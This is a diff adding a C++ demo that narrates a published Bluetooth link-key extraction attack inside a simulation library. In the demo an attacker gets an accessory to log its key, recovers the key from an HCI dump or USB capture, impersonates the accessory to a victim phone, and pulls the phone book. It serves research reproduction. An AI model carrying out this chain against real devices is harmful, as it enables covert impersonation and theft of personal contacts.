@@ -1,0 +1,85 @@
+// link_key_extraction_demo.cpp — the paper's Fig. 5 attack, narrated.
+//
+//   $ ./link_key_extraction_demo [--usb]
+//
+// Three devices: M (victim phone), C (accessory bonded to M), A (attacker).
+// A manipulates C into logging its link key for M, extracts the key from
+// C's HCI dump (or USB capture with --usb), then impersonates C against M.
+#include <cstdio>
+#include <cstring>
+
+#include "core/link_key_extraction.hpp"
+#include "core/profiles.hpp"
+
+int main(int argc, char** argv) {
+  using namespace blap;
+  using namespace blap::core;
+
+  const bool use_usb = argc > 1 && std::strcmp(argv[1], "--usb") == 0;
+
+  Simulation sim(2022);
+
+  // The paper's testbed: Nexus 5x attacker, Android accessory (or a Windows
+  // PC with a USB dongle for the --usb path), LG VELVET victim.
+  DeviceSpec a_spec = attacker_profile().to_spec("attacker", *BdAddr::parse("aa:aa:aa:00:00:01"));
+  const DeviceProfile c_profile = use_usb ? table1_profiles()[7]   // Win10 + CSR dongle
+                                          : table1_profiles()[0];  // Nexus 5x Android 8
+  DeviceSpec c_spec = c_profile.to_spec("accessory", *BdAddr::parse("00:1b:7d:da:71:0a"),
+                                        ClassOfDevice(ClassOfDevice::kHandsFree));
+  DeviceSpec m_spec = table2_profiles()[5].to_spec("velvet", *BdAddr::parse("48:90:12:34:56:78"));
+
+  Device& attacker = sim.add_device(a_spec);
+  Device& accessory = sim.add_device(c_spec);
+  Device& target = sim.add_device(m_spec);
+
+  std::printf("Scenario:\n");
+  std::printf("  M (hard target) : %s  %s\n", target.address().to_string().c_str(),
+              m_spec.name.c_str());
+  std::printf("  C (soft target) : %s  %s / %s (%s)\n",
+              accessory.address().to_string().c_str(), c_profile.os.c_str(),
+              c_profile.host_stack.c_str(), use_usb ? "USB sniff" : "HCI dump");
+  std::printf("  A (attacker)    : %s  Nexus 5x, modified bluedroid\n\n",
+              attacker.address().to_string().c_str());
+
+  LinkKeyExtractionOptions options;
+  options.use_usb_sniff = use_usb;
+  const auto report = LinkKeyExtractionAttack::run(sim, attacker, accessory, target, options);
+
+  std::printf("Attack transcript:\n");
+  std::printf("  [%c] C and M bonded (precondition)\n", report.bonded_precondition ? '+' : '-');
+  std::printf("  [%c] key captured on C via %s (%zu key sightings)\n",
+              report.key_extracted ? '+' : '-', report.capture_channel.c_str(),
+              report.keys_in_capture);
+  std::printf("  [%c] extracted key matches C's bond: %s\n", report.key_matches_bond ? '+' : '-',
+              crypto::key_to_hex(report.extracted_key).c_str());
+  std::printf("  [%c] C saw \"%s\" — not an authentication failure; bond intact: %s\n",
+              report.c_bond_survived ? '+' : '-', hci::to_string(report.c_auth_status),
+              report.c_bond_survived ? "yes" : "no");
+  std::printf("  [%c] impersonation of C against M over PAN succeeded without re-pairing\n",
+              report.impersonation_succeeded ? '+' : '-');
+
+  // The paper's end state (§III-B): "mine sensitive information" — pull the
+  // victim's phone book over PBAP with the stolen identity.
+  bool looted = false;
+  if (report.impersonation_succeeded) {
+    std::optional<std::vector<std::string>> loot;
+    bool done = false;
+    attacker.host().pull_phonebook(target.address(),
+                                   [&](std::optional<std::vector<std::string>> e) {
+                                     loot = std::move(e);
+                                     done = true;
+                                   });
+    sim.run_for(10 * kSecond);
+    if (done && loot) {
+      looted = true;
+      std::printf("  [+] exfiltrated M's phone book (%zu entries):\n", loot->size());
+      for (const auto& entry : *loot) std::printf("        %s\n", entry.c_str());
+    }
+  }
+
+  const bool ok = report.key_matches_bond && report.c_bond_survived &&
+                  report.impersonation_succeeded && looted;
+  std::printf("\n%s\n", ok ? "ATTACK SUCCEEDED — persistent impersonation established."
+                           : "attack failed");
+  return ok ? 0 : 1;
+}
